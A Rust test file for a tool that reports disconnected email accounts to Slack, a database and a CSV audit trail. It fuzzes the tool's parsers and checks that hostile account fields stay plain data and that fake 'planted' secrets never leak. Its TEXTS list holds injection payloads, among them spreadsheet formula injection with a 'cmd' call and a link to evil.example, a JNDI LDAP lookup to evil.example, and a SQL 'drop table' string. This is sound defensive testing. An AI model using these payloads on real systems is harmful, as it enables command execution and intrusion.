//! Hostile data: whatever a source sends, it is only data.

use std::ffi::OsString;
use std::path::Path;

use monitor::slack::message::Message;
use proptest::prelude::*;
use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
use serde_json::{Value, json};

use crate::leak::everything;
use crate::support::slack::{self, listed};
use crate::support::smartlead::{both_down, down_somehow, healthy, imap_down, smtp_down, with};
use crate::support::{World, on_every_engine};

#[path = "../../fuzz/properties.rs"]
mod properties;

/// The seeds of a fuzz target, by name.
fn seeds(target: &str) -> Vec<(OsString, Vec<u8>)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds");
    let entries = std::fs::read_dir(folder.join(target)).unwrap();
    let mut seeds: Vec<_> = entries
        .map(|entry| {
            let entry = entry.unwrap();
            (entry.file_name(), std::fs::read(entry.path()).unwrap())
        })
        .collect();
    seeds.sort();
    seeds
}

/// Runs a property over its seeds, and over `cases` mutations of them, which are the same ones each
/// time.
fn holds(target: &str, property: fn(&[u8]), cases: u32) {
    let seeds = seeds(target);
    assert!(!seeds.is_empty());
    for (name, seed) in &seeds {
        // Says which seed it was if the property does not hold.
        println!("{target}: {}", name.display());
        property(seed);
    }
    let config = Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    };
    let rng = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
    let seeds: Vec<Vec<u8>> = seeds.into_iter().map(|(_, seed)| seed).collect();
    TestRunner::new_with_rng(config, rng)
        .run(&mutated(seeds), |input| {
            property(&input);
            Ok(())
        })
        .unwrap();
}

/// Seeds with a part of another one, of themselves or of noise in place of some of their bytes.
fn mutated(seeds: Vec<Vec<u8>>) -> impl Strategy<Value = Vec<u8>> {
    let seed = || prop::sample::select(seeds.clone());
    let piece = |bytes: &[u8], from: prop::sample::Index, to: prop::sample::Index| {
        let (from, to) = (from.index(bytes.len() + 1), to.index(bytes.len() + 1));
        (from.min(to), from.max(to))
    };
    let places = any::<[prop::sample::Index; 4]>();
    let noise = prop::collection::vec(any::<u8>(), 0..8);
    (seed(), seed(), noise, any::<bool>(), places).prop_map(
        move |(mut input, other, noise, with_noise, [a, b, c, d])| {
            let (from, to) = piece(&input, a, b);
            let (start, end) = piece(&other, c, d);
            let put = match with_noise {
                true => noise,
                false => other[start..end].to_vec(),
            };
            input.splice(from..to, put);
            input
        },
    )
}

#[test]
fn any_page_is_decoded_or_refused() {
    holds("page", properties::page, 300);
}

#[test]
fn any_wait_is_a_wait_or_none() {
    holds("retry_after", properties::retry_after, 300);
}

#[test]
fn any_alert_is_within_the_limits_and_counts_everybody_once() {
    holds("message", properties::message, 60);
}

#[test]
fn any_text_is_cells_and_any_file_can_be_appended_to() {
    holds("csv", properties::csv, 40);
}

/// What may stand in any field of an account.
const TEXTS: [&str; 18] = [
    "<!channel> <!here> <@U0123> <#C0123> <https://evil.example|ok>",
    "`code` ```block``` *b* _i_ ~s~ >q :rotating_light: &lt;!channel&gt;",
    "\u{202e}moc.elpmaxe\u{202c} \u{2066}x\u{2069} \u{200f}\u{61c}\u{feff}y",
    "two\nlines\r\nand\ttabs\u{2028}\u{2029}\u{85}\u{b}end",
    "👩‍💻🏳️‍🌈🇦🇶😀",
    "nul\0 in\0side\0",
    "=HYPERLINK(\"http://evil.example\",\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\u{200b}=1",
    "＝1+1",
    "Ünï çødé 日本語 עברית",
    "'; drop table disconnected_accounts; --",
    "'\"\\ ${jndi:ldap://evil.example} {{7*7}} %s%n \\u0000",
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "  ",
];

/// Provider errors, each with a secret in it that is called `planted`.
const ERRORS: [&str; 8] = [
    "535 5.7.139 see https://login.example/reset?token=planted&user=dana@outreach-one.example",
    "login of dana@outreach-one.example with password=planted, failed",
    "{\"user\":\"dana\",\"password\": \"planted\"}",
    "Authorization: Bearer planted.planted.planted",
    "imaps://dana:planted@imap.example/INBOX refused",
    "echo of /api/v1/email-accounts/?api_key=planted&offset=0",
    "xoxb-1-planted and XOXE.XOXP-planted",
    "pass\u{200b}word=plan\u{2060}ted",
];

/// Accounts that are down, each with something in it that could go wrong somewhere.
fn hostile_accounts() -> Vec<Value> {
    let texts = TEXTS.iter().map(|text| (*text).to_owned());
    let long = ["x", "😀", "=", "& <", "://"].map(|text| text.repeat(10_000));
    let texts = (100..).zip(texts.chain(long)).map(|(id, text)| {
        let everywhere = json!({
            "from_name": text, "from_email": text, "type": text, "tags": [{"tag_name": text}],
            "smtp_failure_error": text, "imap_failure_error": text,
        });
        with(both_down(id), everywhere)
    });
    // An error is cut at 500 characters: inside of these secrets, or right before them.
    let cut = (475..495).map(|before| format!("{} password=planted", "x".repeat(before)));
    let errors = ERRORS.iter().map(|text| (*text).to_owned()).chain(cut);
    let errors = (200..).zip(errors).map(|(id, error)| {
        let everywhere = json!({"smtp_failure_error": error, "imap_failure_error": error});
        with(both_down(id), everywhere)
    });
    let ids = [
        json!(i64::MAX),
        json!(i64::MIN),
        json!(-1),
        json!(0),
        json!("9007199254740993"),
        json!(" -9007199254740993 "),
    ];
    let ids = ids.map(|id| with(imap_down(1), json!({"id": id})));
    let tags: Vec<Value> = (0..5_000)
        .map(|n| json!({"tag_id": n, "tag_name": format!("tag {n}")}))
        .collect();
    let numbers = json!({
        "message_per_day": i64::MAX, "daily_sent_count": i64::MIN, "client_id": "-1",
        "campaign_count": 1e300,
    });
    let others = [
        with(smtp_down(300), json!({"tags": tags})),
        with(smtp_down(301), numbers),
    ];
    // Of several clients, so that they have nothing in common and are told one by one.
    let all = texts.chain(errors).chain(ids).chain(others).enumerate();
    all.map(|(n, account)| with(account, json!({"client_id": n % 5})))
        .collect()
}

fn id(account: &Value) -> i64 {
    let id = &account["id"];
    id.as_i64()
        .unwrap_or_else(|| id.as_str().unwrap().trim().parse().unwrap())
}

/// The messages that Slack got: within its limits, and of untrusted text there is only text.
fn taken(world: &World) -> Vec<Value> {
    let posts = world.slack.posts();
    for post in &posts {
        properties::assert_within_limits(&Message {
            text: post["text"].as_str().unwrap().to_owned(),
            blocks: post["blocks"].as_array().unwrap().clone(),
            plain: post["text"].as_str().unwrap().to_owned(),
        });
        assert!(!post.to_string().contains("planted"), "{post}");
    }
    posts
}

/// Checks a fleet twice, and a third time when all is well again: each account that is down is told
/// once, has one row of the database and one of the CSV, and comes back.
fn is_watched_as_any_other(world: &World, down: &[Value], healthy_ones: usize) {
    let mut ids: Vec<i64> = down.iter().map(id).collect();
    ids.sort_unstable();
    let names = json!({"from_name": down[0]["from_name"], "from_email": down[0]["from_email"]});
    let others = || {
        let others = (10_001..).map(|id| with(healthy(id), names.clone()));
        others.take(healthy_ones)
    };

    world
        .smartlead
        .set_fleet(down.iter().cloned().chain(others()));
    let ran = world.run(&["-vvv"]).assert(0);
    let posts = taken(world);
    let listed: Vec<i64> = posts.iter().flat_map(listed).collect();
    assert!(listed.len() > 20 && listed.iter().all(|id| ids.binary_search(id).is_ok()));
    let title = format!("🔴 {} New Account Disconnection(s) Detected", ids.len());
    assert_eq!(slack::title(&posts[0]), title);
    for (place, text) in everything(world, &ran) {
        assert!(!text.contains("planted"), "a secret is in {place}");
    }
    let told: Vec<i64> = world.database
        .query("select account_id || '' from disconnected_accounts where announced_at is not null order by account_id")
        .iter().map(|id| id.parse().unwrap()).collect();
    assert_eq!(told, ids);
    let rows = world.database.query(
        "select concat_ws('|', from_name, from_email, account_type, tags, smtp_error, imap_error) \
         from disconnected_accounts",
    );
    for row in rows {
        assert!(!row.contains(properties::is_harmful), "{row:?}");
    }
    let trail = || {
        let records = world.audit_records();
        records
            .iter()
            .for_each(|record| properties::assert_cells(record.iter()));
        let mut rows: Vec<_> = records
            .iter()
            .map(|record| (record[10].to_owned(), record[2].parse::<i64>().unwrap()))
            .collect();
        rows.sort();
        rows
    };
    let rows = |event: &str| {
        ids.iter()
            .map(|id| (event.to_owned(), *id))
            .collect::<Vec<_>>()
    };
    assert_eq!(trail(), rows("disconnected"));

    world.run(&[]).assert(0);
    assert_eq!(taken(world), Vec::<Value>::new(), "told twice");
    assert_eq!(trail(), rows("disconnected"));

    let up = json!({"is_smtp_success": true, "is_imap_success": true});
    let up = down.iter().map(|account| with(account.clone(), up.clone()));
    world.smartlead.set_fleet(up.chain(others()));
    world.run(&[]).assert(0);
    assert_eq!(taken(world), Vec::<Value>::new());
    assert_eq!(world.open(), Vec::<String>::new());
    assert_eq!(world.resolved().len(), ids.len());
    assert_eq!(
        trail(),
        [rows("disconnected"), rows("reconnected")].concat()
    );
    assert_eq!(world.outcomes(), ["complete", "complete", "complete"]);
}

on_every_engine! {
    fn hostile_text_and_numbers_are_only_data(world) {
        is_watched_as_any_other(&world, &hostile_accounts(), 100);
    }

    fn thousands_of_accounts_of_one_name_are_told_apart(world) {
        let same = json!({"from_name": "Dana Ops", "from_email": "dana@outreach-one.example"});
        let down: Vec<Value> = (1..=4_000).map(|id| with(down_somehow(id), same.clone())).collect();
        is_watched_as_any_other(&world, &down, 6_000);
    }
}
